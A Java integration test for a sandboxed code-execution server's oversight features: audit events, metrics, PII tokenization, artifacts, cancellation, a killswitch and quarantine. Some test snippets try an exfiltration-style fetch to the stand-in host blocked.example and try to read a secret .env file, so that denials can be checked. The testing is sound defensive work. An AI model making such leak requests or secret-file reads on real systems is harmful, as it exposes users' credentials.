package dev.codemode.server.e2e;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.sun.net.httpserver.HttpServer;
import dev.codemode.server.admin.AdminClient;
import java.io.ByteArrayInputStream;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.net.ServerSocket;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.TimeUnit;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveInputStream;
import org.apache.commons.compress.compressors.gzip.GzipCompressorInputStream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestMethodOrder;

/** Issue 5's acceptance list, end to end through the TypeScript SDK client over stdio: audit, metrics, PII, artifacts, cancel, killswitch, quarantine. */
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class OversightEndToEndIT {
  private static final ObjectMapper JSON = new ObjectMapper();
  private static final String ADMIN_TOKEN = "it-admin-token-" + java.util.UUID.randomUUID();
  private static Path root;
  private static Path config;
  private static HttpServer web;
  private static int metricsPort;
  private static int adminPort;
  private static TsClient client;

  @BeforeAll
  static void start() throws Exception {
    root = Files.createTempDirectory("codemode-oversight-it").toRealPath();
    Path deps = Files.createDirectories(root.resolve("deps"));
    Files.writeString(deps.resolve(".env"), "TOKEN=do-not-read");
    web = HttpServer.create(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0), 0);
    web.createContext("/", exchange -> {
      byte[] body = "hello".getBytes(StandardCharsets.UTF_8);
      exchange.sendResponseHeaders(200, body.length);
      exchange.getResponseBody().write(body);
      exchange.close();
    });
    web.start();
    metricsPort = freePort();
    adminPort = freePort();
    config = TestConfig.withDeps().profiles("""
        web:
          net:
            enabled: true
            allow: [{host: test.local, schemes: [http], ports: [%d], methods: [GET], allow_private: true}]
            resolve: {test.local: 127.0.0.1}
          tools: {allow: ['memory.*']}
        """.formatted(web.getAddress().getPort())).memoryServer(root.resolve("memory.jsonl")).with("""
        runtime: {max_concurrent_runs: 2}
        audit: {sink: file, path: ./audit.log}
        artifacts: {dir: ./artifacts}
        quarantine: {dir: ./quarantine, triggers: [fs_deny_glob, exfil_list]}
        admin: {enabled: true, listen: '127.0.0.1:%d', token: '${env:CODEMODE_ADMIN_TOKEN}'}
        """.formatted(adminPort)).write(root.resolve("codemode.yaml"));
    client = TsClient.start();
    client.connectStdio(Map.of("CODEMODE_ADMIN_TOKEN", ADMIN_TOKEN),
        "--config", config.toString(), "--metrics", "127.0.0.1:" + metricsPort);
  }

  @AfterAll
  static void stop() throws Exception {
    if (client != null) {
      client.close();
    }
    web.stop(0);
    try (java.util.stream.Stream<Path> files = Files.walk(root)) {
      for (Path p : files.sorted(java.util.Comparator.reverseOrder()).toList()) {
        Files.deleteIfExists(p);
      }
    }
  }

  private static int freePort() throws Exception {
    try (ServerSocket s = new ServerSocket(0, 1, InetAddress.getLoopbackAddress())) {
      return s.getLocalPort();
    }
  }

  private static JsonNode run(String code, Map<String, Object> extra) throws Exception {
    return client.execute(code, extra);
  }

  private static List<JsonNode> auditEvents() throws Exception {
    List<String> lines = Files.readAllLines(root.resolve("audit.log"));
    List<JsonNode> out = dev.codemode.server.audit.AuditLines.checked(root.resolve("audit.log")); // throws on a bad line
    assertEquals(lines.size(), out.size(), "every line of the audit file is an audit event");
    return out;
  }

  /** An audit event's fields by dotted name. */
  private static Map<String, String> fields(JsonNode event) {
    return dev.codemode.server.audit.AuditLines.flat(event);
  }

  private static String scrape() throws Exception {
    HttpResponse<String> r = HttpClient.newHttpClient().send(
        HttpRequest.newBuilder(URI.create("http://127.0.0.1:" + metricsPort + "/metrics")).build(), HttpResponse.BodyHandlers.ofString());
    assertEquals(200, r.statusCode());
    return r.body();
  }

  private static double value(String scrape, String series) {
    Matcher m = Pattern.compile("(?m)^" + Pattern.quote(series) + " (\\S+)$").matcher(scrape);
    return m.find() ? Double.parseDouble(m.group(1)) : 0.0;
  }

  private static AdminClient admin() {
    return new AdminClient("127.0.0.1", adminPort, ADMIN_TOKEN);
  }

  private static int cli(String... args) throws Exception {
    CodemodeCli cli = CodemodeCli.run(root, Map.of("CODEMODE_ADMIN_TOKEN", ADMIN_TOKEN), args);
    Files.writeString(root.resolve("cli.out"), cli.output());
    return cli.exit();
  }

  @Test
  @Order(1)
  void deniedFetchIsAnAuditEventWithRunIdRuleAndTarget() throws Exception {
    JsonNode answer = client.executeRaw("try { await fetch('https://blocked.example/leak?d=1') } catch (e) { return e.message }",
        Map.of("progressToken", "task-audit-1"), 0).get(60, TimeUnit.SECONDS);
    String runId = answer.path("value").path("structuredContent").path("run_id").asText();
    List<Map<String, String>> mine = auditEvents().stream().map(OversightEndToEndIT::fields)
        .filter(f -> runId.equals(f.get("codemode.run_id"))).toList();
    Map<String, String> denial = mine.stream().filter(f -> "denial".equals(f.get("event.action"))).findFirst().orElseThrow(() ->
        new AssertionError("no denial event for " + runId + " in " + mine));
    assertEquals("net", denial.get("codemode.denial.kind"));
    assertTrue(denial.get("codemode.denial.target").startsWith("https://blocked.example/leak"), denial.toString());
    assertTrue(denial.get("codemode.denial.rule").contains("net.enabled: false"), denial.toString());
    assertEquals("net.disabled", denial.get("codemode.denial.rule_id"), denial.toString());
    assertEquals("task-audit-1", denial.get("codemode.task_id"));
    assertEquals("stdio", denial.get("user.name"));
    assertEquals(64, denial.get("codemode.policy_sha256").length());
    assertTrue(mine.get(0).get("codemode.code.head").startsWith("try { await fetch("), mine.get(0).toString());
    assertEquals(List.of("run_start", "egress", "denial", "run_end"), mine.stream().map(f -> f.get("event.action")).toList());
  }

  @Test
  @Order(2)
  void metricsEndpointShowsRunToolEgressAndDenialSeriesMoving() throws Exception {
    String before = scrape();
    run("await fetch('http://test.local:" + web.getAddress().getPort() + "/x');\n"
        + "try { await fetch('http://test.local:" + web.getAddress().getPort() + "/x', {method: 'DELETE'}) } catch (e) {}\n"
        + "try { await fs.readFile('/deps/.env') } catch (e) {}\n"
        + "await servers.memory.readGraph({});\n"
        + "try { await servers.memory.deleteEntities({entityNames: []}, 'x'); } catch (e) {}\n"
        + "return 1", Map.of("profile", "web", "allowed_tools", List.of("memory.read_graph")));
    String after = scrape();
    for (String[] series : new String[][] {
        {"codemode_runs_started_total{profile=\"web\"}", "1"},
        {"codemode_runs_finished_total{profile=\"web\",status=\"ok\"}", "1"},
        {"codemode_egress_requests_total{outcome=\"allowed\"}", "1"},
        {"codemode_egress_requests_total{outcome=\"denied\"}", "1"},
        {"codemode_denials_total{kind=\"net\"}", "1"},
        {"codemode_denials_total{kind=\"fs\"}", "1"},
        {"codemode_run_duration_seconds_count{profile=\"web\"}", "1"},
        {"codemode_tool_calls_total{outcome=\"ok\",server=\"memory\",tool=\"read_graph\"}", "1"},
        {"codemode_tool_calls_total{outcome=\"denied\",server=\"memory\",tool=\"delete_entities\"}", "1"},
        {"codemode_denials_total{kind=\"tool\"}", "1"}}) {
      assertEquals(Double.parseDouble(series[1]), value(after, series[0]) - value(before, series[0]), series[0] + "\n" + after);
    }
    assertTrue(after.contains("codemode_runs_active 0.0"), after);
  }

  @Test
  @Order(3)
  void returnedEmailIsTokenizedInTheModelFacingAnswer() throws Exception {
    JsonNode r = run("console.log('contact: ada.lovelace@example.com');\n"
        + "await fs.mkdir('/workspace/out', {recursive: true});\n"
        + "await fs.writeFile('/workspace/out/contacts.txt', 'ada.lovelace@example.com\\n');\n"
        + "return {email: 'ada.lovelace@example.com', card: '4111 1111 1111 1111', again: 'ada.lovelace@example.com'}", Map.of());
    String all = r.toString();
    assertFalse(all.contains("ada.lovelace@example.com"), all);
    assertFalse(all.contains("4111 1111 1111 1111"), all);
    JsonNode s = r.get("structuredContent");
    assertTrue(s.at("/result/email").asText().matches("\\[EMAIL_[a-z2-7]{12}]"), s.toString());
    assertEquals(s.at("/result/email").asText(), s.at("/result/again").asText(), "stable within the session");
    assertTrue(s.get("console").asText().contains(s.at("/result/email").asText()));
    String contacts = client.readResource(s.at("/artifacts/0/uri").asText()).at("/contents/0/text").asText();
    assertEquals(s.at("/result/email").asText() + "\n", contacts, "a text artifact is tokenized on the way out too");
  }

  @Test
  @Order(4)
  void artifactIsListedAndReadBackByteForByte() throws Exception {
    JsonNode r = run("const all = new Uint8Array(256); for (let i = 0; i < 256; i++) all[i] = i;\n"
        + "await fs.mkdir('/workspace/out/sub', {recursive: true});\n"
        + "await fs.writeFile('/workspace/out/sub/all.bin', all);\n"
        + "await fs.writeFile('/workspace/out/report.txt', 'héllo ☃\\n');\n"
        + "return 'written'", Map.of());
    JsonNode s = r.get("structuredContent");
    assertEquals("ok", s.get("status").asText(), s.toString());
    assertFalse(s.toString().contains("héllo"), "contents are never inlined");
    Map<String, JsonNode> handles = new LinkedHashMap<>();
    s.get("artifacts").forEach(a -> handles.put(a.get("name").asText(), a));
    String runId = s.get("run_id").asText();
    assertEquals("artifact://" + runId + "/sub/all.bin", handles.get("sub/all.bin").get("uri").asText());
    assertEquals(256, handles.get("sub/all.bin").get("bytes").asInt());
    assertTrue(r.at("/content/0/text").asText().contains("artifact sub/all.bin (256 bytes): artifact://" + runId + "/sub/all.bin"));
    List<String> listed = new ArrayList<>();
    client.listResources().get("resources").forEach(res -> listed.add(res.get("uri").asText()));
    assertTrue(listed.contains("artifact://" + runId + "/sub/all.bin"), listed.toString());
    assertTrue(listed.contains("artifact://" + runId + "/report.txt"), listed.toString());
    JsonNode bin = client.readResource("artifact://" + runId + "/sub/all.bin").get("contents").get(0);
    byte[] expected = new byte[256];
    for (int i = 0; i < 256; i++) {
      expected[i] = (byte) i;
    }
    assertArrayEquals(expected, Base64.getDecoder().decode(bin.get("blob").asText()));
    JsonNode text = client.readResource("artifact://" + runId + "/report.txt").get("contents").get(0);
    assertEquals("héllo ☃\n", text.get("text").asText());

    // The store is outside the server: a new server on the same store lists and serves the same bytes.
    Path again = Files.writeString(root.resolve("restart.yaml"), "artifacts: {dir: ./artifacts}\n");
    try (TsClient second = TsClient.start()) {
      second.connectStdio("--config", again.toString());
      List<String> relisted = new ArrayList<>();
      second.listResources().get("resources").forEach(res -> relisted.add(res.get("uri").asText()));
      assertTrue(relisted.contains("artifact://" + runId + "/sub/all.bin"), relisted.toString());
      assertArrayEquals(expected, Base64.getDecoder().decode(
          second.readResource("artifact://" + runId + "/sub/all.bin").at("/contents/0/blob").asText()));
    }
  }

  @Test
  @Order(5)
  void clientCancellationEndsTheRun() throws Exception {
    CompletableFuture<JsonNode> call = client.executeRaw("while (true) {}", Map.of("progressToken", "task-cancel"), 700);
    JsonNode answer = call.get(30, TimeUnit.SECONDS);
    assertFalse(answer.path("ok").asBoolean(), "the client gave up on the request: " + answer);
    long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(2);
    while (admin().call("GET", "/runs").body().path("runs").size() > 0 && System.nanoTime() < deadline) {
      Thread.sleep(20);
    }
    assertEquals(0, admin().call("GET", "/runs").body().path("runs").size(), "the run was cancelled, not left spinning");
    String metrics = scrape();
    assertTrue(value(metrics, "codemode_runs_finished_total{profile=\"default\",status=\"cancelled\"}") >= 1, metrics);
  }

  @Test
  @Order(6)
  void killswitchCancelsRunningRunsAndRefusesNewOnesUntilReset() throws Exception {
    CompletableFuture<JsonNode> spinning = client.executeAsync("while (true) {}", Map.of());
    long deadline = System.nanoTime() + TimeUnit.SECONDS.toNanos(20);
    while (admin().call("GET", "/runs").body().path("runs").size() == 0 && System.nanoTime() < deadline) {
      Thread.sleep(20);
    }
    assertEquals(1, admin().call("GET", "/runs").body().path("runs").size());
    long t0 = System.nanoTime();
    assertEquals(200, admin().call("POST", "/killswitch/on").status());
    JsonNode ended = spinning.get(5, TimeUnit.SECONDS);
    long ms = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - t0);
    assertEquals("cancelled", ended.at("/structuredContent/status").asText(), ended.toString());
    assertTrue(ms < 1000, "ended " + ms + " ms after the killswitch");
    JsonNode refused = run("return 1", Map.of());
    assertTrue(refused.get("isError").asBoolean());
    assertTrue(refused.at("/content/0/text").asText().contains("killswitch is on"), refused.toString());
    System.out.println("killswitch: the spinning run ended " + ms + " ms after the switch");
    assertEquals(0, cli("admin", "--config", config.toString(), "killswitch", "off"));
    assertTrue(Files.readString(root.resolve("cli.out")).contains("\"engaged\" : false"));
    assertEquals("ok", run("return 1", Map.of()).at("/structuredContent/status").asText());
    List<String> events = auditEvents().stream().map(e -> fields(e).get("event.action")).toList();
    assertTrue(events.contains("admin_killswitch") && events.contains("run_refused"), events.toString());
  }

  @Test
  @Order(7)
  void denyGlobHitIsQuarantinedAndExportable() throws Exception {
    JsonNode s = run("try { return await fs.readFile('/deps/.env', 'utf8') } catch (e) { return e.code }", Map.of()).get("structuredContent");
    String runId = s.get("run_id").asText();
    assertTrue(Files.isRegularFile(root.resolve("quarantine").resolve(runId).resolve("code.js")));
    assertEquals(0, cli("quarantine", "--config", config.toString(), "list"));
    assertTrue(Files.readString(root.resolve("cli.out")).contains(runId + " "));
    Path tgz = root.resolve("bundle.tar.gz");
    assertEquals(0, cli("quarantine", "--config", config.toString(), "export", runId, "--out", tgz.toString()));
    Map<String, String> files = new LinkedHashMap<>();
    try (TarArchiveInputStream tar = new TarArchiveInputStream(new GzipCompressorInputStream(new ByteArrayInputStream(Files.readAllBytes(tgz))))) {
      for (TarArchiveEntry e = tar.getNextEntry(); e != null; e = tar.getNextEntry()) {
        files.put(e.getName(), new String(tar.readAllBytes(), StandardCharsets.UTF_8));
      }
    }
    assertTrue(files.get(runId + "/code.js").contains("/deps/.env"));
    assertTrue(files.get(runId + "/audit.jsonl").contains("\"rule\":\"deny_globs"), files.toString());
    assertTrue(files.get(runId + "/meta.json").contains("fs_deny_glob"));
    assertTrue(files.get(runId + "/policy.json").contains("denyGlobs"));
    assertFalse(String.join("", files.values()).contains("do-not-read"), "the denied file's content is nowhere");
  }
}
